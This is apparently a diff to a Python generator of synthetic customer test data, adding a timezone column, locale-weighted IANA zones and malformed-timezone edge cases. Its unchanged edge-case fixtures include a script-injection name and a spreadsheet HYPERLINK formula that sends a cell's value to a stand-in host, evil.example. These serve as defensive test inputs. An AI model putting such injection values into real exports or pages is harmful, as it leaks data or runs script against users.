@@ -41,6 +41,7 @@ CUSTOMER_COLUMNS = [
     "weekly_active_days",
     "csm_email",
     "locale",
+    "timezone",
 ]
 TICKET_COLUMNS = [
     "ticket_id",
@@ -95,6 +96,20 @@ SEATS = {"enterprise": (40, 400), "growth": (8, 80), "team": (3, 25), "starter":
 PRICE_PER_SEAT = {"enterprise": 45.0, "growth": 30.0, "team": 15.0, "starter": 9.0}
 STATUSES = [("active", 82), ("churned", 9), ("trial", 9)]
 LOCALES = [("en", 50), ("de", 20), ("fr", 10), ("pt-BR", 6), ("", 14)]
+#: Where customers are, by their locale: IANA zones for send windows (`contact.timezone`).
+ZONES = {
+    "en": [
+        ("America/New_York", 18), ("America/Chicago", 8), ("America/Los_Angeles", 10),
+        ("America/Toronto", 5), ("America/Mexico_City", 3), ("Europe/London", 12),
+        ("Europe/Dublin", 4), ("Europe/Madrid", 3), ("Africa/Johannesburg", 3),
+        ("Asia/Dubai", 3), ("Asia/Kolkata", 7), ("Asia/Singapore", 5), ("Asia/Tokyo", 6),
+        ("Australia/Sydney", 7), ("Pacific/Auckland", 3), ("", 3),
+    ],
+    "de": [("Europe/Berlin", 70), ("Europe/Vienna", 15), ("Europe/Zurich", 15)],
+    "fr": [("Europe/Paris", 80), ("Europe/Brussels", 10), ("America/Toronto", 10)],
+    "pt-BR": [("America/Sao_Paulo", 90), ("America/Manaus", 10)],
+    "": [("Europe/London", 40), ("America/New_York", 30), ("Asia/Tokyo", 15), ("", 15)],
+}  # fmt: skip
 PRIORITIES = [("low", 25), ("normal", 45), ("high", 20), ("urgent", 10)]
 
 
@@ -149,9 +164,11 @@ EDGE_CASES: dict[int, dict[str, str]] = {
     101: {"id": "c-00020"},
     113: {"seats": "ten"},  # unparsable seats
     125: {"seats": "n/a"},
-    137: {"csm_email": ""},  # no CSM: follow-ups fall back
-    149: {"csm_email": ""},
-    161: {"csm_email": ""},
+    # No CSM: follow-ups fall back. No time zone, an unknown one, an abbreviation that is
+    # not an IANA zone: a send window falls back to the survey's zone (`bad_timezone`).
+    137: {"csm_email": "", "timezone": ""},
+    149: {"csm_email": "", "timezone": "Mars/Olympus_Mons"},
+    161: {"csm_email": "", "timezone": "CEST"},
     173: {"name": "<script>alert(1)</script>"},  # markup in a name
     185: {"name": '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'},  # formula
     197: {"name": "Zoë Ørsted", "locale": "fr"},  # non-ASCII names
@@ -175,9 +192,12 @@ def generate_customers(
     listed in EDGE_CASES and SHARED_EMAILS carry realistic bad or tricky values.
     """
     rng = random.Random(seed)
+    # Zones draw from a generator of their own: the other columns stay as they were.
+    zones = random.Random(seed + 2)
     emails: dict[int, str] = {}
     for position in range(1, n + 1):
         row = _clean_customer(position, now, rng)
+        row["timezone"] = _pick(zones, ZONES[row["locale"]])
         if edge_cases and (position in EDGE_CASES or position in SHARED_EMAILS):
             row.update(status="active", seats=str(max(int(row["seats"]), 12)))
             row.update(EDGE_CASES.get(position, {}))
